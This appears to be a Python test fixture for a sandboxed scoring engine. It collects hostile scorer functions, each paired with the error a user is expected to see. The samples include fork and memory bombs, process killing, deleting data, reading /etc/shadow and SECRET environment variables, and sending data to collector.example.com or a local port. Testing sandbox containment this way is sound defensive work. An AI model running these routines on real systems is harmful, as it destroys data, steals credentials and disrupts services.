"""Hostile scorers. Each does its worst to trace 103; the others it scores with their number.

The body of a function is the body of a scorer, `HARM` what it is to harm.
None goes on where it is not isolated: the first process of its namespace, as a worker is.
"""

from __future__ import annotations

import inspect
import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

HANGS_SECONDS = 5.0  # time limit of those that are to run into it
POISONED = 103
_GUARD = f"""
if inputs != {POISONED}:
    return inputs
import os
if os.getpid() != 1:
    raise RuntimeError("not isolated: nothing is tried")
"""

HARM: dict[str, Any] = {}
inputs: Any = None


@dataclass(frozen=True)
class Poison:
    """A hostile scorer and what a user is to be told; without a code it is to do no harm at all."""

    name: str
    attack: str
    code: str | None
    says: str

    @property
    def timeout(self) -> float:
        """Its time limit in seconds."""
        return HANGS_SECONDS if self.code == "SCORER_TIMEOUT" else 60.0

    def body(self, **harm: Any) -> str:
        """Its source, given what it is to harm."""
        return f"{_GUARD}HARM = {json.dumps(harm)}\n{self.attack}"


POISONS: list[Poison] = []


def poison(code: str | None, says: str = "") -> Callable[[Callable[[], Any]], Callable[[], Any]]:
    """Add the decorated function to the poisons."""

    def add(function: Callable[[], Any]) -> Callable[[], Any]:
        source = textwrap.dedent(inspect.getsource(function))
        body = source.split(f"def {function.__name__}() -> Any:\n", 1)[1]
        POISONS.append(Poison(function.__name__, textwrap.dedent(body), code, says))
        return function

    return add


@poison("SCORER_TIMEOUT", "stopped after 5 seconds")
def sleeps_for_ever() -> Any:
    import time

    time.sleep(1e6)


@poison("SCORER_TIMEOUT", "timeout=")
def ignores_signals_and_spins() -> Any:
    import signal

    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU):
        signal.signal(number, signal.SIG_IGN)
    while True:
        pass


@poison("SCORER_TIMEOUT", "stopped after 5 seconds")
def fork_bomb() -> Any:
    import os

    while True:
        try:
            os.fork()
        except OSError:
            continue


@poison("SCORER_ERROR", "more processes than 64")
def starts_processes_until_it_fails() -> Any:
    import subprocess

    return [subprocess.Popen(["sleep", "1000"]) for _ in range(1000)]


@poison("SCORER_CRASHED", "exit code 3")
def exits() -> Any:
    import os

    os._exit(3)


@poison("SCORER_CRASHED", "SIGSEGV, a crash of compiled code")
def segfault() -> Any:
    import ctypes

    ctypes.string_at(0)


@poison("SCORER_ERROR", "more memory than a worker")
def memory_bomb() -> Any:
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))


@poison("SCORER_ERROR", "recursion")
def recursion() -> Any:
    def again() -> Any:
        return again()

    return again()


@poison(None)
def prints_a_gigabyte() -> Any:
    import os

    for _ in range(512):
        os.write(1, b"x" * 1024 * 1024)
        os.write(2, b"x" * 1024 * 1024)
    return inputs


@poison("SCORER_ERROR", "")
def returns_a_gigabyte() -> Any:
    return "x" * 1_000_000_000


@poison("SCORER_ERROR", "xxxx")
def raises_a_hundred_megabytes() -> Any:
    raise ValueError("x" * 100_000_000)


@poison("SCORER_ERROR", "No such process")
def kills_all_it_can() -> Any:
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)  # which is itself: nobody else is there
    os.kill(-1, signal.SIGKILL)
    os.kill(HARM["engine"], signal.SIGKILL)


@poison("SCORER_CRASHED", "changes Python's own modules")
def breaks_builtins() -> Any:
    import builtins
    import json

    json.loads = json.dumps = None
    builtins.len = builtins.isinstance = None


@poison("SCORER_ERROR", "No such file")
def deletes_the_data() -> Any:
    import shutil

    shutil.rmtree(HARM["data"])


@poison("SCORER_ERROR", "into its scratch directory only")
def writes_into_python() -> Any:
    import os
    import sys

    with open(os.path.join(sys.prefix, "harm.pth"), "w") as file:
        file.write("import harm")


@poison("SCORER_ERROR", "Operation not permitted")
def leaves_its_root() -> Any:
    import os

    os.chroot(HARM["data"] if os.path.exists(HARM["data"]) else "/proc")


@poison("SCORER_ERROR", "No such file")
def steals_secrets() -> Any:
    import os
    from pathlib import Path

    loot = [value for name, value in os.environ.items() if "SECRET" in name]
    for place in (f"/proc/{HARM['engine']}/environ", "/etc/shadow", HARM["data"] + "/control.db"):
        try:
            loot.append(Path(place).read_text(errors="replace"))
        except OSError as error:
            refused = error
    if not loot:
        raise refused
    return f"stolen: {loot}"[:1000]


@poison("SCORER_ERROR", "scorers have no network")
def calls_the_server() -> Any:
    import socket

    socket.create_connection(("127.0.0.1", HARM["port"]), timeout=1).sendall(b"stolen goods")


@poison("SCORER_ERROR", "scorers have no network")
def calls_home() -> Any:
    import urllib.request

    urllib.request.urlopen("http://collector.example.com/", timeout=1)


@poison(None)
def leaves_a_daemon_behind() -> Any:
    import os
    import subprocess

    subprocess.Popen(["sh", "-c", f"setsid sleep {HARM['sleep']} &"], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
    return inputs


@poison(None)
def leaves_a_thread_behind() -> Any:
    import threading

    def spin() -> None:
        while True:
            pass

    threading.Thread(target=spin, daemon=True).start()
    return inputs


@poison("SCORER_CRASHED", "closes files that it has not opened")
def closes_every_file() -> Any:
    import os

    os.closerange(0, 4096)


@poison("SCORER_CRASHED", "disturbed the process it ran in")
def answers_by_itself() -> Any:
    import os
    import stat

    for descriptor in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, b"\xff" * 1000)
        except OSError:
            pass


@poison("SCORER_ERROR", "scratch directory is full")
def fills_the_scratch_directory() -> Any:
    import tempfile

    while True:
        with tempfile.NamedTemporaryFile(delete=False) as file:
            file.write(b"x" * 1024 * 1024)


@poison("SCORER_ERROR", "Too many open files")
def opens_files_without_end() -> Any:
    return [open("/dev/null") for _ in range(100_000)]


@poison("SCORER_ERROR", "not allowed to raise")
def raises_its_limits() -> Any:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
